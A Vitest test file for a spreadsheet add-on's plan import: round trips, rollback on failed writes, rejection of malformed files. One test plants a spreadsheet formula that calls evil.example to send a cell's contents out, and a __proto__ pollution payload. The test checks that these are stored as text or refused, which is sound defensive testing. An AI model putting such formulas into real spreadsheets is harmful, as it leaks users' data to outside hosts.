import { describe, expect, it } from "vitest";
import type { ExportResult } from "../../src/domain/api/contract";
import type { PlanDocument } from "../../src/domain/plan/plan-document";
import { loadAddOn, sheetValues, spreadsheetOf, type LoadedAddOn } from "../support/bundle";
import { planWith } from "../support/plans";
import { largeExample } from "../fixtures/large-workbook";
import { writeExample } from "../support/workbook-writer";

const exported = (addOn: LoadedAddOn) => {
  const result = addOn.run<ExportResult>("exportPlan");
  const file = addOn.emulator.drive.list().find((f) => f.id === result.fileId)!;
  return { text: file.content.toString(), plan: JSON.parse(file.content.toString()) as PlanDocument };
};

/** Export bookkeeping that legitimately differs between two exports of the same plan. */
const comparable = (plan: PlanDocument) => {
  const { version, exportedAt, contentHash, changes, changeLog, changeLogHead, ...rest } = plan;
  return { ...rest, profiles: rest.profiles.map((p) => ({ ...p, document: { ...p.document, docUrl: null } })) };
};

const allSheets = (addOn: LoadedAddOn) =>
  spreadsheetOf(addOn)
    .getSheets()
    .map((sheet) => [sheet.getName(), sheet.getDataRange().getValues()]);

describe("Import plan", () => {
  it("round trip: export, import into an empty spreadsheet, export again gives the same plan", () => {
    const source = planWith();
    const first = exported(source);
    const target = loadAddOn();
    const result = target.run<{ planId: string; restored: { sheet: string; rows: number }[] }>("importPlan", { json: first.text });
    expect(result.planId).toBe("plg-onboarding-7f3a");
    expect(result.restored).toContainEqual({ sheet: "2 Attributes", rows: 5 });
    const second = exported(target);
    expect(comparable(second.plan)).toEqual(comparable(first.plan));
    expect(second.plan.contentHash).toBe(first.plan.contentHash);
    expect(second.plan.version).toBe(first.plan.version + 1);
  });

  it("restores 1,000 attribute rows whose Usage labels and Privacy notes are all empty cell for cell", () => {
    // Large enough that the inserted sheets are written in blocks around their empty columns (merge-cell-edits.ts).
    const source = loadAddOn();
    source.run("setupSheets", { initiative: "PLG Onboarding", channels: ["web", "in-app", "email"] });
    writeExample(source, largeExample({ attributes: 1000, profiles: 200, activations: 200 }));
    const target = loadAddOn();
    target.run("importPlan", { json: exported(source).text });
    for (const sheet of ["2 Attributes", "3 Profiles", "4 Activation"])
      expect(sheetValues(target, sheet)).toEqual(sheetValues(source, sheet));
  });

  it("restores text that begins with =, +, - or @ as text, never as a formula", () => {
    const source = planWith((e) => {
      e.sheets["2 Attributes"][0]["Privacy notes"] = "- no export";
      e.sheets["3 Profiles"][0].Name = "+1 onboarding";
      e.sheets["5 Governance"][0]["Change checkpoint"] = "@privacy review";
    });
    const plan = exported(source).plan;
    const attributes = plan.attributes as Record<string, unknown>[];
    attributes[0].privacyNotes = '=HYPERLINK("https://evil.example","click")';
    attributes[1].privacyNotes = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
    const target = loadAddOn();
    target.run("importPlan", { json: JSON.stringify(plan) });
    const sheet = spreadsheetOf(target).getSheetByName("2 Attributes")!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
    const notes = sheetValues(target, "2 Attributes").map((row) => row[13]);
    expect(notes.slice(1, 3)).toEqual([attributes[0].privacyNotes, attributes[1].privacyNotes]);
    expect(sheetValues(target, "3 Profiles")[1][1]).toBe("+1 onboarding");
    expect(sheetValues(target, "5 Governance")[1][6]).toBe("@privacy review");
  });

  it("keeps what was typed in a cell that did not parse", () => {
    const source = planWith((e) => {
      e.sheets["2 Attributes"][2]["Coverage %"] = "most of them";
    });
    const target = loadAddOn();
    target.run("importPlan", { json: exported(source).text });
    expect(sheetValues(target, "2 Attributes")[3][8]).toBe("most of them");
  });

  const crafted: [string, (plan: Record<string, unknown>) => string][] = [
    ["invalid JSON", () => '{"schemaVersion": 1,'],
    ["a __proto__ key", (plan) => JSON.stringify(plan).replace('"attributes":[', '"attributes":[{"__proto__":{"polluted":true}},')],
    ["a wrong type", (plan) => JSON.stringify({ ...plan, attributes: "all of them" })],
    ["a 1 MB string", (plan) => JSON.stringify({ ...plan, initiative: "x".repeat(1_000_000) })],
    ["another schema version", (plan) => JSON.stringify({ ...plan, schemaVersion: 9 })],
    ["not a plan at all", () => "[1, 2, 3]"],
  ];

  it.each(crafted)("changes nothing and says why for a file with %s", (_, craft) => {
    const plan = exported(planWith()).plan as unknown as Record<string, unknown>;
    const target = planWith();
    target.run("exportPlan");
    const before = allSheets(target);
    let message = "";
    try {
      target.run("importPlan", { json: craft(plan) });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toMatch(/^Import did not finish: the plan file was not imported, and nothing changed\.\n• /);
    expect(allSheets(target)).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("imports a plan file from Drive by its ID", () => {
    const addOn = planWith();
    const result = addOn.run<ExportResult>("exportPlan");
    spreadsheetOf(addOn).getSheetByName("3 Profiles")!.getRange("B2").setValue("Renamed");
    addOn.run("importPlan", { fileId: result.fileId });
    expect(sheetValues(addOn, "3 Profiles")[1][1]).toBe("New free workspaces still onboarding");
    expect(String(sheetValues(addOn, "Change log").at(-1)![6])).toMatch(/^imported v1 draft/);
  });

  it("a write that keeps failing half way puts every sheet back, logs the failure and says which operation stopped", () => {
    const addOn = planWith();
    const { text } = exported(addOn);
    const attributes = spreadsheetOf(addOn).getSheetByName("2 Attributes")!;
    attributes.deleteRow(3);
    const before = allSheets(addOn);
    const status = addOn.run<{ lastExport: unknown; changedSinceExport: unknown }>("getStatus");
    // A clean run on a copy finds the write of the attributes' rows: the third setValues, after the Plan and 1 Objectives.
    const probe = loadAddOn({ state: addOn.emulator.saveState() });
    const start = probe.emulator.calls.snapshot();
    probe.run("importPlan", { json: text });
    const calls = probe.emulator.calls.sequence().slice(start.total);
    const write = calls.map((call, index) => [call, index] as const).filter(([call]) => call === "Range.setValues")[2][1];
    expect(sheetValues(probe, "2 Attributes")).toHaveLength(6);

    // Three tries and the two pauses between them: the write keeps failing through its retries.
    addOn.emulator.faults.failCall(write + 1, { times: 5 });
    let message = "";
    try {
      addOn.run("importPlan", { json: text });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toBe("Import did not finish: a Google service did not respond. Nothing was changed; try again in a few minutes.");
    const after = allSheets(addOn);
    const log = (sheets: ReturnType<typeof allSheets>) => sheets.find(([name]) => name === "Change log")![1] as unknown[][];
    expect(after.filter(([name]) => name !== "Change log")).toEqual(before.filter(([name]) => name !== "Change log"));
    expect(sheetValues(addOn, "2 Attributes")).toHaveLength(5);
    expect(log(after).slice(0, -1)).toEqual(log(before));
    expect(String(log(after).at(-1)![6])).toBe(`import failed: ${message}`);
    const statusAfter = addOn.run<{ lastExport: unknown; changedSinceExport: unknown }>("getStatus");
    expect([statusAfter.lastExport, statusAfter.changedSinceExport]).toEqual([status.lastExport, status.changedSinceExport]);
  });

  it("one failing call is retried and the import completes", () => {
    const addOn = planWith();
    const { text } = exported(addOn);
    addOn.emulator.faults.failNext("Range.setValues", 1);
    addOn.run("importPlan", { json: text });
    expect(sheetValues(addOn, "2 Attributes")).toHaveLength(6);
  });

  it("names Import, not Export, when the Drive file cannot be read", () => {
    const addOn = planWith();
    const result = addOn.run<ExportResult>("exportPlan");
    addOn.emulator.faults.failNext(/^(DriveApp|File|Blob|Drive)\./, 50);
    let message = "";
    try {
      addOn.run("importPlan", { fileId: result.fileId });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toMatch(/^Import did not finish: /);
    expect(message).not.toMatch(/export|Service|API call|Exception/i);
  });

  it("leaves a Plan column someone inserted before Field alone and writes the values beside their labels", () => {
    const addOn = planWith();
    const { text } = exported(addOn);
    const plan = spreadsheetOf(addOn).getSheetByName("Plan")!;
    plan.insertColumnBefore(1);
    plan.getRange("A1").setValue("Our notes");
    plan.getRange("A3").setValue("ask Dana");
    spreadsheetOf(addOn).getSheetByName("Plan")!.getRange("C3").setValue("Renamed initiative");
    addOn.run("importPlan", { json: text });
    const values = sheetValues(addOn, "Plan");
    expect(values[0].slice(0, 3)).toEqual(["Our notes", "Field", "Value"]);
    expect(values[2]).toEqual(["ask Dana", "Initiative", "PLG Onboarding"]);
    expect(values.slice(1).every((row) => row[1] !== "")).toBe(true);
  });

  it("refuses, changing nothing, when a sheet with a template name is someone's own", () => {
    const addOn = planWith();
    const { text } = exported(addOn);
    const own = spreadsheetOf(addOn).getSheetByName("3 Profiles")!;
    own.clear();
    own.getRange("A1:B2").setValues([
      ["Quarter", "Revenue"],
      ["Q1", 1200],
    ]);
    const before = allSheets(addOn);
    expect(() => addOn.run("importPlan", { json: text })).toThrow(
      /^Import did not finish: the plan file was not imported, and nothing changed\.\n• Sheet "3 Profiles" already exists/,
    );
    expect(allSheets(addOn)).toEqual(before);
  });
});
